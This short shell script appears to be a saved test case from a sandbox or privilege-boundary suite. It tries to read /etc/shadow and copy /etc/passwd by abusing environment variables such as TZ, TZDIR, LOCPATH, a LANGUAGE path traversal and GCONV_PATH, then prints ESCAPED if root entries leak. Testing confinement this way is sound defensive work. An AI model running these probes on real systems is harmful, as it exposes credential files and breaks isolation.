# outcome: exited
# says: done
# Other zones, tongues and terminals, from folders that it fills itself.
mkdir -p /tmp/zone /tmp/locale
cp /etc/passwd /tmp/zone/x
(TZ=:/tmp/zone/x date; TZ=:/etc/shadow date; TZDIR=/proc/1 TZ=root date
 LOCPATH=/tmp/locale LC_ALL=de_DE date; LANGUAGE=../../../etc/shadow date -x
 TERMINFO=/tmp tput cols; MALLOC_CHECK_=3 GCONV_PATH=/tmp iconv -f x) \
    2>&1 | grep 'root:' && echo ESCAPED
echo done
